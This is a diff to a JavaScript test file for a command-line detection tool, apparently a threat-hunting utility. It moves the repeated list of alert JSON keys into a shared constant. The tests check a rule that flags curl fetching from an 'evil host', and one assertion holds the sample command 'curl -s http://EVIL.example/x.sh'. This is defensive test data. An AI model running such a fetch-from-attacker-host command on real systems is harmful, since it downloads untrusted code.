@@ -12,6 +12,10 @@ import {
   writeConfiguredRules,
 } from '../../src/store/index.js';
 import { huntFixture } from '../detect/detect-fixture.js';
+
+/** The first keys of a hunt match and of an alert, as CLI.md fixes them: scripts read them by name. */
+const MATCH_KEYS = ['time', 'host', 'pid', 'rule_id', 'title', 'level', 'author', 'batch_seq', 'batch_hash'];
+
 import { jsonLines, pofr } from '../helpers/pofr-cli.js';
 
 const GOOD = `title: Curl fetching from the evil host
@@ -90,17 +94,7 @@ test('pofr hunt --json prints the contract keys, the matched row and its batch',
   assert.match(r.stderr, /1 rule\(s\) cannot run/);
   const [alert, ...rest] = jsonLines(r.stdout);
   assert.equal(rest.length, 0);
-  assert.deepEqual(Object.keys(alert).slice(0, 9), [
-    'time',
-    'host',
-    'pid',
-    'rule_id',
-    'title',
-    'level',
-    'author',
-    'batch_seq',
-    'batch_hash',
-  ]);
+  assert.deepEqual(Object.keys(alert).slice(0, 9), MATCH_KEYS);
   assert.equal(alert.author, 'Jane Analyst');
   assert.equal(alert.pid, 101);
   assert.equal(alert.cmdline, 'curl -s http://EVIL.example/x.sh');
@@ -134,17 +128,7 @@ test('pofr alerts --json prints the alerts written at ingest, keyed as hunt', as
   assert.equal(r.code, 0, r.stderr);
   const rows = jsonLines(r.stdout);
   assert.equal(rows.length, 1);
-  assert.deepEqual(Object.keys(rows[0]).slice(0, 9), [
-    'time',
-    'host',
-    'pid',
-    'rule_id',
-    'title',
-    'level',
-    'author',
-    'batch_seq',
-    'batch_hash',
-  ]);
+  assert.deepEqual(Object.keys(rows[0]).slice(0, 9), MATCH_KEYS);
   assert.deepEqual(
     [rows[0].rule_id, rows[0].author, rows[0].pid, rows[0].batch_seq, rows[0].batch_hash, rows[0].cmdline],
     [
